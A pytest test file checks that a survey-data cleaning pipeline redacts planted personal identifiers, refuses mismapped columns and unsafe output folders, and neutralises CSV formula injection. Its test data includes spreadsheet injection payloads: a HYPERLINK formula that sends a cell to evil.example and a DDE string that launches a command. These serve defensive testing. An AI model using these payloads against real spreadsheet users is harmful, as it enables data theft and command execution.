"""Hostile privacy corpus of the clean step (issue 15.3-15.5, 10.7): identifiers leaking through file names, headers,
SPSS labels and free text in every spelling, header swaps putting people under OPD, formula injection, --out misuse
and broken key files. Each case ends in a correct, leak-free result or one polite sentence (exit 2, no traceback).

Two datasets carry most plants at once (one clean run each, shared by the cases); the refusals run one small dataset
each. The leak scan is independent of the implementation: every output cell is reduced to its digits (any separators,
full-width digits) and searched for every planted NIP, phone and NIK, and searched for every planted name (any word
order) and e-mail address.
"""

from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
import yaml

from kinerja_research.cli import main
from kinerja_research.pipeline import build_processed, load_validation

RTC = [f"RTC{i:02d}" for i in range(1, 11)]
LABELS = ["Sangat Tidak Setuju", "Tidak Setuju", "Agak Tidak Setuju", "Agak Setuju", "Setuju", "Sangat Setuju"]
NAMES = [
    "Budi Santoso",
    "Siti Rahmawati",
    "Andi Wijaya",
    "Dewi Lestari",
    "Rudi Hartono",
    "Maya Sari",
    "Agus Salim",
    "Rina Marlina",
    "Joko Susilo",
    "Ani Yulianti",
    "Bayu Pratama",
    "Citra Kirana",
]
NIPS = [f"19{80 + i:02d}0{(i % 9) + 1}1{i % 10}20{10 + i:02d}0{(i % 9) + 1}{1 + i % 2}{i + 1:03d}" for i in range(12)]
ONLY_IN_TRAINING = "Hendra Gunawan"  # a name known only from the training table's name column
PHONES = ["081234567890", "6281298765432", "6281311112222"]
NIK = "3171234567890123"
EMAILS = ["budi.santoso@bkpsdm.go.id", "siti_r@gmail.com", "andi@kantor.id"]
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
NIP0 = NIPS[0]
DASHED = f"{NIP0[:4]}-{NIP0[4:8]}-{NIP0[8:14]}-{NIP0[14]}-{NIP0[15:]}"

# free-text plants in the OPD column: (row index in the survey, written value, identifier planted)
FREE_TEXT = {
    "nip_dashes": f"Dinas Sosial {DASHED}",
    "nip_slashes": f"Dinas Sosial {NIP0[:8]}/{NIP0[8:14]}/{NIP0[14]}/{NIP0[15:]}",
    "nip_dots": f"Dinas Sosial {NIP0[:8]}.{NIP0[8:14]}.{NIP0[14]}.{NIP0[15:]}",
    "nip_double_spaces": f"Dinas Sosial {NIP0[:8]}  {NIP0[8:14]}  {NIP0[14]}  {NIP0[15:]}",
    "nip_nbsp": f"Dinas Sosial {NIP0[:8]}\u00a0{NIP0[8:14]}\u00a0{NIP0[14]}\u00a0{NIP0[15:]}",
    "nip_fullwidth": "Dinas Sosial " + "".join(chr(0xFF10 + int(c)) for c in NIP0),
    "ni_pppk": "Dinas Sosial 200012312024211001",
    "email": f"Dinas Sosial (kontak {EMAILS[0]})",
    "phone_local": "Dinas Sosial hp 0812 3456 7890",
    "phone_intl": "Dinas Sosial +62 812-9876-5432",
    "phone_62": "Dinas Sosial 6281311112222",
    "name_surname_first": "Dinas Sosial (Santoso, Budi)",
    "name_caps_titles": "Dinas Sosial - DR. SITI RAHMAWATI, S.KOM",
    "name_middle_initial": "Dinas Sosial Andi K. Wijaya",
}
FREE_TEXT_2 = {  # second wave rows
    "name_other_table": f"Dinas Sosial u.p. {ONLY_IN_TRAINING}",
    "nik": f"Dinas Sosial NIK {NIK}",
}
PLANTED_NAMES = [*NAMES, ONLY_IN_TRAINING]


@pytest.fixture(autouse=True)
def _key(monkeypatch, tmp_path):
    monkeypatch.setenv("KINERJA_PSEUDONYM_KEY", "hostile-privacy-key")
    monkeypatch.setenv("KINERJA_PSEUDONYM_KEY_FILE", str(tmp_path / "never-used.key"))


def _survey(n_people: int = 12, *, agency=None, waves=("Sebelum", "Sesudah")) -> pd.DataFrame:
    rows = []
    for wave in waves:
        for i in range(n_people):
            rows.append(
                {
                    "Timestamp": f"2025-{3 if wave == 'Sebelum' else 9:02d}-{10 + i:02d} 10:00:00",
                    "NIP": NIPS[i % len(NIPS)] if n_people <= len(NIPS) else _nip(i),
                    "Nama Lengkap": NAMES[i % len(NAMES)] if n_people <= len(NAMES) else f"Pegawai Nomor {i}",
                    "Kabupaten/Kota": "Kota Bandar Lampung",
                    "OPD": "Dinas Pendidikan" if agency is None else agency[i],
                    "Tahap": wave,
                    **{f"Item {c}": LABELS[(i + k) % 6] for k, c in enumerate(RTC)},
                }
            )
    return pd.DataFrame(rows)


def _nip(i: int) -> str:
    return f"19{70 + i % 30:02d}0{i % 9 + 1}1{i % 10}20{10 + i % 15:02d}0{i % 9 + 1}{1 + i % 2}{i + 1:03d}"


def _config(survey_file="survey.csv", extra_tables=None, survey_columns=None, **top) -> dict:
    cols = {
        "Timestamp": "submitted_at",
        "NIP": "nip",
        "Nama Lengkap": "name",
        "Kabupaten/Kota": "region",
        "OPD": "agency",
        "Tahap": "wave",
        **{f"Item {c}": c for c in RTC},
        **(survey_columns or {}),
    }
    return {
        "name": "hostile",
        "reference_date": "2026-01-01",
        "tables": {"survey": [{"file": survey_file, "columns": cols}], **(extra_tables or {})},
        **top,
    }


def _write(folder: Path, files: dict[str, pd.DataFrame | str], config: dict) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        p = folder / name
        p.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, pd.DataFrame):
            content.to_csv(p, index=False, encoding="utf-8")
        else:
            p.write_text(content, encoding="utf-8")
    (folder / "dataset.yml").write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False), "utf-8")
    return folder


def _texts(folder: Path) -> dict[str, list[str]]:
    """Every cell (and key) of every output, as text."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if not p.is_file():
            continue
        rel = p.relative_to(folder).as_posix()
        if p.suffix == ".parquet":
            df = pd.read_parquet(p)
            out[rel] = [str(c) for c in df.columns] + [str(v) for v in df.astype(str).to_numpy().ravel()]
        elif p.suffix == ".json":
            out[rel] = [json.dumps(json.loads(p.read_text(encoding="utf-8")), ensure_ascii=False)]
        else:
            out[rel] = [p.read_text(encoding="utf-8")]
    return out


def _leaks(folder: Path) -> list[tuple[str, str]]:
    """Planted identifiers found in any output: digits of NIPs/phones/NIK in any spelling, names in any word order,
    e-mail addresses."""
    found = []
    digits_wanted = [*NIPS, "200012312024211001", *PHONES, "81234567890", "81298765432", NIK]
    for rel, cells in _texts(folder).items():
        for cell in cells:
            norm = unicodedata.normalize("NFKC", cell)
            for chunk in re.split(r"[^\d \t./\-_\u00a0]+", norm):  # numbers written with any separators
                digits = re.sub(r"\D", "", chunk)
                found += [(rel, d) for d in digits_wanted if d in digits]
            low = norm.lower()
            for name in PLANTED_NAMES:
                a, b = name.lower().split()
                if re.search(rf"\b{a}\b", low) and re.search(rf"\b{b}\b", low):
                    found.append((rel, name))
            found += [(rel, e) for e in re.findall(r"[\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+", norm)]
    return sorted(set(found))


def _cli(args: list[str], capsys) -> tuple[int, str]:
    with pytest.raises(SystemExit) as e:
        main(args)
    captured = capsys.readouterr()
    return int(e.value.code or 0), captured.err


# --------------------------------------------------------------------------------------------------------------------
# One dataset with most plants: file names, headers, free text in every spelling, injection
# --------------------------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def leaky(tmp_path_factory):
    import os

    os.environ["KINERJA_PSEUDONYM_KEY"] = "hostile-privacy-key"
    root = tmp_path_factory.mktemp("leaky")
    survey = _survey()
    for k, value in enumerate([*FREE_TEXT.values(), *FREE_TEXT_2.values()]):
        survey.loc[k, "OPD"] = value  # rows 1-16 of 24 (both waves)
    survey.loc[2, "Item RTC01"] = INJECTION  # a Likert answer that is a formula
    survey.loc[3, "Item RTC01"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    survey.loc[4, "Item RTC01"] = "\tTAB answer"
    survey.loc[5, "Item RTC01"] = "-2+3"
    survey.loc[6, "Item RTC01"] = f"hubungi saya {PHONES[0]}"  # an unknown answer holding a phone number
    survey.loc[7, "Item RTC01"] = f"{EMAILS[1]}"
    survey = survey.rename(
        columns={
            "Item RTC02": '=HYPERLINK("http://evil.example","RTC02")',
            "Item RTC03": f"Nilai {DASHED}",
            "Item RTC04": "Dinilai oleh Budi Santoso",
            "Item RTC05": f"Kontak {EMAILS[2]}",
        }
    )
    for c in ('=HYPERLINK("http://evil.example","RTC02")', f"Nilai {DASHED}", "Dinilai oleh Budi Santoso"):
        survey.loc[8, c] = "entahlah"  # an unknown label, so the header appears in validation.csv
    survey.loc[8, f"Kontak {EMAILS[2]}"] = "entahlah"
    survey.loc[9, "Timestamp"] = "tanggal -5"  # an invalid date starting with a minus sign
    training = pd.DataFrame(
        {
            "NIP": [NIPS[0], NIPS[1], "19850312201001100X"],
            "Nama": [NAMES[0], ONLY_IN_TRAINING, NAMES[2]],
            "Diklat": ["Latsar CPNS", "PIM IV", "Latsar CPNS"],
            "Mulai": ["12/03/2025", "2025-03-12", "12/03/2025"],
            "JP": ["40", "40", "40"],
            "Wilayah": ["Bandar Lampung"] * 3,
        }
    )
    skm = pd.DataFrame(
        {
            "Wilayah": ["Kota Bandar Lampung"] * 3,
            "Unit": ["Disdukcapil"] * 3,
            "U1": ["Sesuai", "Sangat Sesuai", "=1+1"],
        }
    )
    files = {
        "survey.csv": survey,
        "pelatihan_198503122010011002_budi_santoso.csv": training,
        "pegawai/Siti Rahmawati/pelatihan.csv": training.iloc[:1].assign(Diklat="Orientasi"),
        "=HYPERLINK(1)_skm.csv": skm,
        f"skm_{PHONES[0]}.csv": skm.assign(U1=["Sesuai", "Sesuai", "Kurang Sesuai"]),
        f"skm_{EMAILS[1]}.csv": skm,  # the same export saved again under another name: its respondents repeat
    }
    train_cols = {"NIP": "nip", "Nama": "name", "Diklat": "course", "Mulai": "start", "JP": "jp", "Wilayah": "region"}
    columns = {c: c.split()[-1] if not c.startswith("=") else "RTC02" for c in survey.columns if c not in ()}
    survey_columns = {
        '=HYPERLINK("http://evil.example","RTC02")': "RTC02",
        f"Nilai {DASHED}": "RTC03",
        "Dinilai oleh Budi Santoso": "RTC04",
        f"Kontak {EMAILS[2]}": "RTC05",
    }
    del columns
    config = _config(survey_columns=survey_columns)
    for c in ("RTC02", "RTC03", "RTC04", "RTC05"):
        del config["tables"]["survey"][0]["columns"][f"Item {c}"]
    config["tables"]["training"] = [
        {"file": "pelatihan_*.csv", "columns": train_cols},
        {"file": "pegawai/Siti Rahmawati/pelatihan.csv", "columns": train_cols},
    ]
    config["tables"]["satisfaction"] = [
        {"file": f, "columns": {"Wilayah": "region", "Unit": "service_unit", "U1": "U1"}}
        for f in ("=HYPERLINK(1)_skm.csv", f"skm_{PHONES[0]}.csv", f"skm_{EMAILS[1]}.csv")
    ]
    raw = _write(root / "raw", files, config)
    manifest = build_processed("hostile", raw_dir=raw, out_dir=root / "out")
    return root, manifest, load_validation(root / "out"), pd.read_csv(root / "out" / "validation.csv", dtype=str)


def test_no_planted_identifier_anywhere_in_the_outputs(leaky):
    root, _, _, _ = leaky
    assert _leaks(root / "out") == []


@pytest.mark.parametrize("plant", sorted(FREE_TEXT) + sorted(FREE_TEXT_2))
def test_free_text_spelling_is_redacted_and_reported(leaky, plant):
    root, _, v, _ = leaky
    written = {**FREE_TEXT, **FREE_TEXT_2}[plant]
    survey = pd.concat(
        [
            pd.read_parquet(root / "out" / "survey.parquet"),
            pd.read_parquet(root / "out" / "quarantine" / "survey.parquet"),
        ]
    )
    kept = [a for a in survey["agency"].dropna() if a.startswith("Dinas Sosial")]
    assert kept and all("<redacted>" in a for a in kept)
    pii = v[(v["rule"] == "pii_in_free_text") & (v["field"] == "agency")]
    assert len(pii) == len(FREE_TEXT) + len(FREE_TEXT_2) and (pii["value"] == "<redacted>").all()
    assert written not in set(v["value"].dropna())


@pytest.mark.parametrize(
    "file_name",
    [
        "pelatihan_198503122010011002_budi_santoso.csv",
        "pegawai/Siti Rahmawati/pelatihan.csv",
        f"skm_{PHONES[0]}.csv",
        f"skm_{EMAILS[1]}.csv",
    ],
)
def test_file_named_by_an_identifier_is_shown_by_its_alias(leaky, file_name):
    root, manifest, v, _ = leaky
    assert file_name not in manifest["inputs"] and file_name not in set(v["file"])
    aliases = [k for k in manifest["inputs"] if k.startswith("file-")]
    assert len(aliases) == 4 and all(re.fullmatch(r"file-[0-9a-f]{10}\.csv", a) for a in aliases)
    q = pd.read_parquet(root / "out" / "quarantine" / "training.parquet")
    assert set(q["_file"]) <= set(aliases)  # the quarantined row of that file (which used to crash the run)


def test_file_names_without_identifiers_keep_their_names(leaky):
    _, manifest, _, _ = leaky
    assert {"survey.csv", "=HYPERLINK(1)_skm.csv", "dataset.yml"} <= set(manifest["inputs"])


@pytest.mark.parametrize(
    "header, shown",
    [
        (f"Nilai {DASHED}", "Nilai <redacted>"),
        ("Dinilai oleh Budi Santoso", "Dinilai oleh <redacted>"),
        (f"Kontak {EMAILS[2]}", "Kontak <redacted>"),
    ],
)
def test_identifier_in_a_header_is_redacted_in_validation(leaky, header, shown):
    _, _, v, _ = leaky
    assert header not in set(v["column"]) and shown in set(v["column"])


@pytest.mark.parametrize(
    "value, field",
    [
        (INJECTION, "RTC01"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "RTC01"),
        ("\tTAB answer", "RTC01"),
        ("-2+3", "RTC01"),
        ('=HYPERLINK("http://evil.example","RTC02")', "column"),
        ("=HYPERLINK(1)_skm.csv", "file"),
        ("=1+1", "U1"),
    ],
)
def test_formula_cells_are_written_inert_and_read_back_as_found(leaky, value, field):
    _, _, v, csv = leaky
    col = "column" if field == "column" else "file" if field == "file" else "value"
    sel = csv if col != "value" else csv[csv["field"] == field]
    assert "'" + value in set(sel[col]) and value not in set(sel[col])  # the OWASP quote in the file
    back = v if col != "value" else v[v["field"] == field]
    assert value in set(back[col])  # load_validation gives the cell as it was found


def test_the_same_skm_export_twice_is_reported_as_duplicates(leaky):
    root, manifest, v, _ = leaky
    dup = v[(v["table"] == "satisfaction") & (v["rule"] == "duplicate_submission")]
    assert len(dup) == 6 and set(dup["severity"]) == {"error", "info"}
    assert manifest["tables"]["satisfaction"] == {"rows_in": 9, "rows_out": 6, "rows_quarantined": 3}


def test_negative_numbers_and_plain_cells_are_not_quoted(leaky):
    root, _, _, csv = leaky
    text = (root / "out" / "validation.csv").read_text(encoding="utf-8")
    assert "'tanggal -5" not in text and "tanggal -5" in text
    assert not any(str(x).startswith("'") for x in csv["row"])
    assert (csv["rule"].str.startswith("'") == False).all()  # noqa: E712


def test_identifier_in_an_unknown_answer_is_redacted(leaky):
    _, _, v, _ = leaky
    rtc = v[(v["field"] == "RTC01") & v["rule"].isin(["likert_unknown_label", "likert_off_scale"])]
    assert "<redacted>" in set(rtc["value"]) and not any(PHONES[0] in str(x) for x in rtc["value"])


# --------------------------------------------------------------------------------------------------------------------
# SPSS: a variable label and a value label holding identifiers and a formula
# --------------------------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def spss(tmp_path_factory):
    import os

    import pyreadstat

    os.environ["KINERJA_PSEUDONYM_KEY"] = "hostile-privacy-key"
    root = tmp_path_factory.mktemp("spss")
    s = _survey(waves=("Sebelum",))
    df = pd.DataFrame(
        {
            "nip": s["NIP"],
            "nama": s["Nama Lengkap"],
            "kota": s["Kabupaten/Kota"],
            "tahap": s["Tahap"],
            **{c.lower(): [((i + k) % 6) + 1 for i in range(len(s))] for k, c in enumerate(RTC)},
        }
    )
    df.loc[0, "rtc01"] = 7  # value label 7 is a name, 8 an injection
    df.loc[1, "rtc01"] = 8
    labels = {c.lower(): c for c in RTC} | {
        "nip": "NIP",
        "nama": "Nama",
        "kota": "Kota",
        "tahap": "Tahap",
        "rtc02": f"RTC02 (diisi oleh {NIPS[3]})",
    }
    value_labels = {"rtc01": {i + 1: lab for i, lab in enumerate(LABELS)} | {7: "Dewi Lestari", 8: INJECTION}}
    df.loc[2, "rtc02"] = 9  # a number outside the scale, so the variable label appears in validation.csv
    raw = root / "raw"
    raw.mkdir()
    pyreadstat.write_sav(
        df, str(raw / "skripsi.sav"), column_labels=[labels[c] for c in df.columns], variable_value_labels=value_labels
    )
    cols = {"NIP": "nip", "Nama": "name", "Kota": "region", "Tahap": "wave", **{c: c for c in RTC}}
    cols[f"RTC02 (diisi oleh {NIPS[3]})"] = "RTC02"
    del cols["RTC02"]
    config = {
        "name": "spss",
        "reference_date": "2026-01-01",
        "tables": {
            "survey": [{"file": "skripsi.sav", "reader": "spss", "options": {"headers": "labels"}, "columns": cols}]
        },
    }
    (raw / "dataset.yml").write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
    build_processed("spss", raw_dir=raw, out_dir=root / "out")
    return root, load_validation(root / "out"), pd.read_csv(root / "out" / "validation.csv", dtype=str)


def test_spss_variable_label_with_a_nip_is_redacted(spss):
    root, v, _ = spss
    assert "RTC02 (diisi oleh <redacted>)" in set(v["column"])
    assert _leaks(root / "out") == []


def test_spss_value_label_with_a_name_is_redacted(spss):
    _, v, _ = spss
    rtc = v[v["field"] == "RTC01"]
    assert "<redacted>" in set(rtc["value"]) and "Dewi Lestari" not in set(rtc["value"])


def test_spss_value_label_with_a_formula_is_inert(spss):
    _, v, csv = spss
    assert "'" + INJECTION in set(csv["value"]) and INJECTION in set(v["value"])


# --------------------------------------------------------------------------------------------------------------------
# A mapping mistake cannot leak: people under OPD, course or occupation; names and units swapped
# --------------------------------------------------------------------------------------------------------------------
def _refused(tmp_path, capsys, files, config, *words) -> str:
    raw = _write(tmp_path / "raw", files, config)
    code, err = _cli(["clean", str(raw), "--out", str(tmp_path / "out"), "--quiet"], capsys)
    assert code == 2 and "Traceback" not in err and err.strip().count("\n") == 0, err
    for w in words:
        assert w in err, (w, err)
    for name in PLANTED_NAMES:
        assert name not in err  # the sentence names the column, never the people in it
    assert not (tmp_path / "out").exists()
    return err


def test_names_under_opd_known_from_another_table_are_refused(tmp_path, capsys):
    survey = _survey(agency=[ONLY_IN_TRAINING, *NAMES[1:]])
    training = pd.DataFrame(
        {
            "NIP": NIPS[:4],
            "Nama": NAMES[:3] + [ONLY_IN_TRAINING],
            "Diklat": ["Latsar"] * 4,
            "Mulai": ["2025-03-12"] * 4,
            "Wilayah": ["Bandar Lampung"] * 4,
        }
    )
    config = _config(
        extra_tables={
            "training": [
                {
                    "file": "training.csv",
                    "columns": {
                        "NIP": "nip",
                        "Nama": "name",
                        "Diklat": "course",
                        "Mulai": "start",
                        "Wilayah": "region",
                    },
                }
            ]
        }
    )
    _refused(
        tmp_path,
        capsys,
        {"survey.csv": survey, "training.csv": training},
        config,
        "'OPD' (mapped to agency)",
        "names of people",
        "free_text",
    )


def test_header_swap_name_and_opd_is_refused(tmp_path, capsys):
    survey = _survey()
    config = _config()
    cols = config["tables"]["survey"][0]["columns"]
    cols["Nama Lengkap"], cols["OPD"] = "agency", "name"  # the swap
    survey["OPD"] = ["Dinas Pendidikan", "Dinas Kesehatan", "BKPSDM", "Dinas Sosial"] * 6
    _refused(tmp_path, capsys, {"survey.csv": survey}, config, "'OPD' (mapped to name)", "swapped")


def test_name_column_holding_units_is_refused(tmp_path, capsys):
    survey = _survey()
    survey["Nama Lengkap"] = ["Dinas Pendidikan", "UPTD Puskesmas Kemiling", "BKPSDM"] * 8
    _refused(tmp_path, capsys, {"survey.csv": survey}, _config(), "'Nama Lengkap' (mapped to name)", "swapped")


def test_one_distinct_opd_per_person_is_refused(tmp_path, capsys):
    people = 25
    survey = _survey(people, agency=[f"Pak {chr(65 + i % 26)}{chr(97 + i // 26)}rto" for i in range(people)])
    _refused(tmp_path, capsys, {"survey.csv": survey}, _config(), "'OPD' (mapped to agency)", "nearly one per person")


def test_declared_free_text_is_kept_with_names_redacted(tmp_path):
    survey = _survey(agency=[f"Dinas Sosial {n}" if i < 4 else NAMES[i] for i, n in enumerate(NAMES)])
    raw = _write(tmp_path / "raw", {"survey.csv": survey}, _config(free_text={"survey": ["agency"]}))
    build_processed("hostile", raw_dir=raw, out_dir=tmp_path / "out")
    s = pd.read_parquet(tmp_path / "out" / "survey.parquet")
    assert set(s["agency"]) == {"Dinas Sosial <redacted>", "<redacted>"}
    assert _leaks(tmp_path / "out") == []


def test_course_holding_names_is_refused(tmp_path, capsys):
    training = pd.DataFrame(
        {"NIP": NIPS[:4], "Diklat": NAMES[:4], "Mulai": ["2025-03-12"] * 4, "Wilayah": ["Bandar Lampung"] * 4}
    )
    config = _config(
        extra_tables={
            "training": [
                {
                    "file": "training.csv",
                    "columns": {"NIP": "nip", "Diklat": "course", "Mulai": "start", "Wilayah": "region"},
                }
            ]
        }
    )
    _refused(tmp_path, capsys, {"survey.csv": _survey(), "training.csv": training}, config, "(mapped to course)")


def test_occupation_holding_names_is_refused(tmp_path, capsys):
    skm = pd.DataFrame(
        {"Wilayah": ["Kota Bandar Lampung"] * 4, "Unit": ["Disdukcapil"] * 4, "Nama": NAMES[:4], "Pekerjaan": NAMES[:4]}
    )
    config = _config(
        extra_tables={
            "satisfaction": [
                {
                    "file": "skm.csv",
                    "columns": {"Wilayah": "region", "Unit": "service_unit", "Nama": "name", "Pekerjaan": "occupation"},
                }
            ]
        }
    )
    _refused(tmp_path, capsys, {"survey.csv": _survey(), "skm.csv": skm}, config, "(mapped to occupation)")


# --------------------------------------------------------------------------------------------------------------------
# --out misuse: never destroy what the clean step did not write
# --------------------------------------------------------------------------------------------------------------------
@pytest.fixture
def small_raw(tmp_path):
    return _write(tmp_path / "raw", {"survey.csv": _survey(4, waves=("Sebelum",))}, _config())


def _out_refused(tmp_path, capsys, raw, out, *words):
    code, err = _cli(["clean", str(raw), "--out", str(out), "--quiet"], capsys)
    assert code == 2 and "Traceback" not in err and err.strip().count("\n") == 0, err
    for w in words:
        assert w in err, (w, err)
    return err


def test_out_folder_with_user_files_is_refused_and_left_alone(tmp_path, capsys, small_raw):
    out = tmp_path / "thesis"
    out.mkdir()
    (out / "chapter1.docx").write_text("precious", encoding="utf-8")
    _out_refused(tmp_path, capsys, small_raw, out, "no manifest.json")
    assert (out / "chapter1.docx").read_text(encoding="utf-8") == "precious"


def test_out_folder_of_another_dataset_is_refused(tmp_path, capsys, small_raw):
    other = _write(
        tmp_path / "other_raw", {"survey.csv": _survey(4, waves=("Sebelum",))}, {**_config(), "name": "other"}
    )
    build_processed("other", raw_dir=other, out_dir=tmp_path / "processed")
    before = sorted(p.name for p in (tmp_path / "processed").rglob("*"))
    _out_refused(tmp_path, capsys, small_raw, tmp_path / "processed", "dataset 'other'", "not of dataset 'hostile'")
    assert sorted(p.name for p in (tmp_path / "processed").rglob("*")) == before


def test_out_folder_with_a_stray_file_is_refused(tmp_path, capsys, small_raw):
    build_processed("hostile", raw_dir=small_raw, out_dir=tmp_path / "processed")
    (tmp_path / "processed" / "notes.txt").write_text("mine", encoding="utf-8")
    _out_refused(tmp_path, capsys, small_raw, tmp_path / "processed", "'notes.txt'", "did not write")
    assert (tmp_path / "processed" / "notes.txt").exists()


def test_out_folder_of_another_command_is_refused(tmp_path, capsys, small_raw):
    build_processed("hostile", raw_dir=small_raw, out_dir=tmp_path / "processed")
    m = json.loads((tmp_path / "processed" / "manifest.json").read_text(encoding="utf-8"))
    (tmp_path / "processed" / "manifest.json").write_text(json.dumps({**m, "command": "report"}), encoding="utf-8")
    _out_refused(tmp_path, capsys, small_raw, tmp_path / "processed", "`kinerja report`")


def test_out_is_a_file_or_below_a_file(tmp_path, capsys, small_raw):
    f = tmp_path / "a_file.txt"
    f.write_text("x", encoding="utf-8")
    _out_refused(tmp_path, capsys, small_raw, f, "is a file")
    _out_refused(tmp_path, capsys, small_raw, f / "below", "below the file")
    assert f.read_text(encoding="utf-8") == "x"


def test_out_with_a_300_character_name(tmp_path, capsys, small_raw):
    _out_refused(tmp_path, capsys, small_raw, tmp_path / ("p" * 300), "characters")


def test_out_inside_the_raw_folder(tmp_path, capsys, small_raw):
    _out_refused(tmp_path, capsys, small_raw, small_raw / "processed", "never writes into data/raw")


def test_out_of_our_own_same_dataset_is_replaced_and_legacy_manifest_accepted(tmp_path, small_raw):
    out = tmp_path / "processed"
    build_processed("hostile", raw_dir=small_raw, out_dir=out)
    m = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    del m["command"]  # written before the command was recorded
    (out / "manifest.json").write_text(json.dumps(m), encoding="utf-8")
    again = build_processed("hostile", raw_dir=small_raw, out_dir=out)
    assert again["command"] == "clean" and (out / "survey.parquet").exists()


def test_disk_full_is_one_sentence_and_keeps_the_last_good_output(tmp_path, capsys, small_raw, monkeypatch):
    import errno

    import kinerja_research.pipeline as pipeline

    out = tmp_path / "processed"
    build_processed("hostile", raw_dir=small_raw, out_dir=out)
    before = {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def full(df, path):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pipeline, "_write_parquet", full)
    _out_refused(tmp_path, capsys, small_raw, out, "the disk is full", "previous outputs are kept intact")
    assert {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert not list(tmp_path.glob(".processed.tmp-*"))


@pytest.mark.parametrize(
    "errno_name, words", [("EACCES", "permission denied"), ("EROFS", "read-only"), ("ENAMETOOLONG", "too long")]
)
def test_other_write_failures_are_named(tmp_path, errno_name, words):
    import errno

    from kinerja_research.pipeline import _write_error

    msg = str(_write_error(tmp_path / "out", OSError(getattr(errno, errno_name), "x")))
    assert words in msg and "previous outputs are kept intact" in msg and "\n" not in msg


# --------------------------------------------------------------------------------------------------------------------
# Pseudonym key files that are not keys
# --------------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "make, words",
    [
        (lambda p: p.mkdir(), "is not a file"),
        (lambda p: p.write_bytes(b"\xff\xfe\x00\x81" * 8), "not text"),
        (lambda p: p.write_text("   \n", encoding="utf-8"), "is empty"),
        (lambda p: p.write_bytes(b"k" * 10_000), "at most 4096 bytes"),
    ],
)
def test_broken_key_file_is_one_sentence(tmp_path, capsys, small_raw, monkeypatch, make, words):
    key = tmp_path / "keys" / "pseudonym.key"
    key.parent.mkdir()
    make(key)
    monkeypatch.delenv("KINERJA_PSEUDONYM_KEY")
    monkeypatch.setenv("KINERJA_PSEUDONYM_KEY_FILE", str(key))
    _out_refused(tmp_path, capsys, small_raw, tmp_path / "processed", words)
